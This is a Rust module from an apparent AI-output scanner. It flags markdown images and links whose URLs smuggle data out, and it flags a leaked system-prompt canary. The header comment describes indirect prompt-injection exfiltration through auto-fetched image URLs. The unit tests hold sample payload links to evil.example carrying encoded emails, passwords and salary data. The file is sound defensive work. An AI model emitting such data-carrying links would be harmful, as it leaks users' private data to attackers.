//! Answers: links and images whose URLs carry data out (the classic exfiltration of an
//! indirect prompt injection: `![](https://evil.example/log?q=<the user's data>)`, which
//! a chat UI fetches without a click), and a leaked system-prompt canary.

use std::sync::OnceLock;

use regex::Regex;

use crate::{Category, Finding};

fn url_re() -> &'static Regex {
    static R: OnceLock<Regex> = OnceLock::new();
    R.get_or_init(|| {
        Regex::new(r#"(?i)(!?)\[[^\]]{0,200}\]\(\s*<?(https?://[^\s)>]+)|<img\b[^>]*\bsrc\s*=\s*["']?(https?://[^\s"'>]+)"#)
            .unwrap_or_else(|e| panic!("exfiltration pattern: {e}"))
    })
}

/// How much data a URL carries in its query and path, roughly: the longest query value
/// or path segment, and whether any looks encoded (base64/hex/percent runs).
fn payload(url: &str) -> (usize, bool) {
    let after_host = url.splitn(4, '/').nth(3).unwrap_or("");
    let parts = after_host.split(['?', '&', '/', '=', '#']);
    let longest = parts.clone().map(str::len).max().unwrap_or(0);
    let encoded = parts.clone().any(|p| {
        p.len() >= 24
            && (p.bytes().all(|b| {
                b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_' | b'=')
            }) || p.matches('%').count() >= 4)
    });
    (longest, encoded)
}

/// Exfiltration-shaped links and images in an answer. An image is fetched by the client
/// on render, so any image URL carrying a payload counts; a link needs a larger one.
pub fn scan(text: &str, findings: &mut Vec<Finding>) {
    for c in url_re().captures_iter(text) {
        let (image, url) = match (c.get(1), c.get(2), c.get(3)) {
            (Some(bang), Some(u), _) => (bang.as_str() == "!", u),
            (_, _, Some(u)) => (true, u),
            _ => continue,
        };
        let (longest, encoded) = payload(url.as_str());
        let suspicious = if image {
            longest >= 16 || encoded
        } else {
            longest >= 48 || encoded
        };
        if suspicious {
            let what = if image { "an image" } else { "a link" };
            findings.push(Finding::new(
                Category::Exfiltration,
                if image {
                    "exfiltration_image"
                } else {
                    "exfiltration_link"
                },
                (url.start(), url.end()),
                if image { 0.9 } else { 0.7 },
                format!(
                    "{what} whose URL carries data ({longest} characters in one part{})",
                    if encoded { ", encoded" } else { "" }
                ),
            ));
        }
    }
}

/// A canary placed in the system prompt that shows up in an answer: the prompt leaked.
pub fn canary(text: &str, canary: &str, findings: &mut Vec<Finding>) {
    if canary.is_empty() {
        return;
    }
    if let Some(i) = text.find(canary) {
        findings.push(Finding::new(
            Category::Exfiltration,
            "system_prompt_leak",
            (i, i + canary.len()),
            0.99,
            "the answer contains the system prompt's canary: the system prompt leaked".into(),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(text: &str) -> Vec<&'static str> {
        let mut f = Vec::new();
        scan(text, &mut f);
        f.iter().map(|f| f.kind).collect()
    }

    #[test]
    fn images_and_links_that_carry_data() {
        assert_eq!(
            kinds("![logo](https://cdn.example.com/logo.png)"),
            Vec::<&str>::new()
        );
        assert_eq!(
            kinds("see [docs](https://docs.example.com/guide/install)"),
            Vec::<&str>::new()
        );
        assert_eq!(
            kinds("![x](https://evil.example/p?d=am9obkBleGFtcGxlLmNvbSBwYXNzd29yZA)"),
            ["exfiltration_image"]
        );
        assert_eq!(
            kinds("<img src=\"https://evil.example/c?q=alice%40corp.com%20salary%2090000\">"),
            ["exfiltration_image"]
        );
        assert_eq!(
            kinds("[click](https://evil.example/?q=the-users-full-conversation-history-goes-here-and-more)"),
            ["exfiltration_link"]
        );
        let mut f = Vec::new();
        canary(
            "sure, my instructions say CANARY-1234",
            "CANARY-1234",
            &mut f,
        );
        assert_eq!(f[0].kind, "system_prompt_leak");
    }
}
